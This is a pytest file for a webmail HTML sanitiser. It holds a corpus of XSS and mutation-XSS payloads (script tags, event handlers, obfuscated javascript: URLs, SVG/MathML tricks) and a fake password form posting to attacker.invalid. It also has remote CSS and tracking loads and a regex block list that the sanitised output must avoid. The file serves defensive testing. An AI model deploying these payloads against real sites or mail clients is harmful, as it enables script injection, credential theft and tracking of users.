"""Hostile HTML corpus: the sanitised body keeps no script, no remote load, no page takeover."""

from __future__ import annotations

import re

import pytest

from mail.sanitize import sanitize_html
from tests.mail.conftest import make_message

CORPUS = {
    "script": "<script>alert(1)</script><p>texte</p>",
    "script_uppercase_split": "<SCRIPT\nsrc=http://attacker.invalid/x.js></SCRIPT><p>texte</p>",
    "event_handlers": '<p onclick="alert(1)" onmouseover=alert(2)>texte</p><img src=x onerror=alert(3)><body onload=alert(4)>',
    "javascript_url": '<a href="javascript:alert(1)">texte</a>',
    "javascript_entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">texte</a>',
    "javascript_hex_entities": '<a href="&#x6A;avascript&#x3A;alert(1)">texte</a>',
    "javascript_whitespace": '<a href="java\tscript:alert(1)">texte</a><a href=" &#14;  javascript:alert(2)">b</a>',
    "vbscript_url": '<a href="vbscript:msgbox(1)">texte</a>',
    "data_url_link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">texte</a>',
    "data_url_img": '<img src="data:image/svg+xml,<svg onload=alert(1)>"><p>texte</p>',
    "svg_inline": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>x</text></a></svg><p>texte</p>',
    "svg_animate_href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="href" to="javascript:alert(2)"/><text>cliquer</text></a></svg><p>texte</p>',
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>texte</p>",
    "base_tag": '<base href="http://attacker.invalid/"><a href="page">texte</a>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/"><p>texte</p>',
    "form": '<form action="http://attacker.invalid/steal"><input name="password" type="password"><button>Valider</button></form><p>texte</p>',
    "iframe_object_embed": '<iframe src="http://attacker.invalid/"></iframe><object data="http://attacker.invalid/x.swf"></object><embed src="http://attacker.invalid/x"><p>texte</p>',
    "css_expression": '<p style="width: expression(alert(1)); color: blue">texte</p>',
    "css_import": "<style>@import url(http://attacker.invalid/x.css);</style><p>texte</p>",
    "css_url_in_var": '<p style="--x: url(http://attacker.invalid/a.png); background-image: var(--x); color: red">texte</p>',
    "css_unclosed_url": '<p style="background: url(http://attacker.invalid/a.png">texte</p><p style="color:red">b</p>',
    "css_escaped_url": '<p style="background:\\75\\72\\6C(http://attacker.invalid/e.png)">texte</p>',
    "position_fixed_overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">texte</div>',
    "background_attribute": '<table background="http://attacker.invalid/bg.png"><tr><td background="http://attacker.invalid/td.png">texte</td></tr></table>',
    "link_stylesheet": '<link rel="stylesheet" href="http://attacker.invalid/x.css"><p>texte</p>',
    "mxss_noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">texte</p></noscript>',
    "mxss_comment": "<!--<img src=x onerror=alert(1)>--><p>texte</p>",
    "mxss_style_in_svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">texte',
    "mxss_table_form": "<table><form><tr><td><input name=a></td></tr></form></table><p>texte</p>",
    "mxss_select": "<select><template><style></select><img src=x onerror=alert(1)></style></template></select><p>texte</p>",
    "remote_img": '<img src="http://attacker.invalid/pixel.gif" alt="pixel"><img src="//attacker.invalid/p2.gif"><p>texte</p>',
    "srcset_and_lowsrc": '<img srcset="http://attacker.invalid/a.png 1x" lowsrc="http://attacker.invalid/b.png" dynsrc="http://attacker.invalid/c"><p>texte</p>',
    "video_audio_poster": '<video poster="http://attacker.invalid/p.png"><source src="http://attacker.invalid/v.mp4"></video><audio src="http://attacker.invalid/a.mp3"></audio><p>texte</p>',
    "xml_namespace": '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script><p>texte</p>',
    "id_and_class_clobbering": '<p id="mail-bulk" class="fr-header" name="csrfmiddlewaretoken">texte</p>',
    "target_and_rel": '<a href="https://exemple.fr/" target="_top" rel="opener">texte</a>',
}

FORBIDDEN = [
    r"<script", r"\son\w+\s*=", r"javascript:", r"vbscript:", r"data:", r"<svg", r"<math", r"<base", r"<meta",
    r"<form", r"<input", r"<iframe", r"<object", r"<embed", r"<link", r"<style", r"expression\(", r"@import",
    r"url\(", r"position", r"background=", r"attacker\.invalid", r"z-index", r"srcset", r"poster", r"<video",
    r"<audio", r"\sid=", r"\sclass=", r"\sname=", r"_top", r"(?<!no)opener", r"var\(",
]  # fmt: skip


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_corpus_is_neutralised(name):
    result = sanitize_html(CORPUS[name], allow_remote_images=False)
    for pattern in FORBIDDEN:
        assert not re.search(pattern, result.html, re.I), (name, pattern, result.html)
    assert "texte" in result.html or "cliquer" in result.html


def test_remote_images_only_when_allowed():
    html = CORPUS["remote_img"]
    blocked = sanitize_html(html, allow_remote_images=False)
    assert blocked.blocked_images == 2 and "attacker.invalid" not in blocked.html
    allowed = sanitize_html(html, allow_remote_images=True)
    assert 'src="http://attacker.invalid/pixel.gif"' in allowed.html
    assert 'src="https://attacker.invalid/p2.gif"' in allowed.html


def test_links_open_outside_with_noopener():
    result = sanitize_html('<a href="https://www.education.gouv.fr/">lien</a>', allow_remote_images=False)
    assert result.html == '<a href="https://www.education.gouv.fr/" target="_blank" rel="noopener noreferrer">lien</a>'


def test_harmless_styling_is_kept():
    result = sanitize_html(
        '<table border="1" cellpadding="4"><tr><td style="color: #333; background-color: #eee; font-weight: bold">a</td></tr></table>',
        allow_remote_images=False,
    )
    assert '<td style="color:#333;background-color:#eee;font-weight:bold">a</td>' in result.html
    assert 'border="1"' in result.html


@pytest.mark.imap
def test_whole_corpus_through_the_reading_frame(mail_client, append):
    html = "\n".join(CORPUS.values())
    uid, v = append(make_message("Corpus hostile", "texte", html=html))
    page = mail_client.get(f"/messagerie/lire/{uid}/?f=INBOX&v={v}")
    assert page.status_code == 200
    frame = mail_client.get(f"/messagerie/lire/{uid}/corps/?f=INBOX&v={v}")
    body = frame.content.decode().split("<body>", 1)[1]
    for pattern in FORBIDDEN:
        assert not re.search(pattern, body, re.I), pattern
    assert "script-src" not in frame["Content-Security-Policy"]
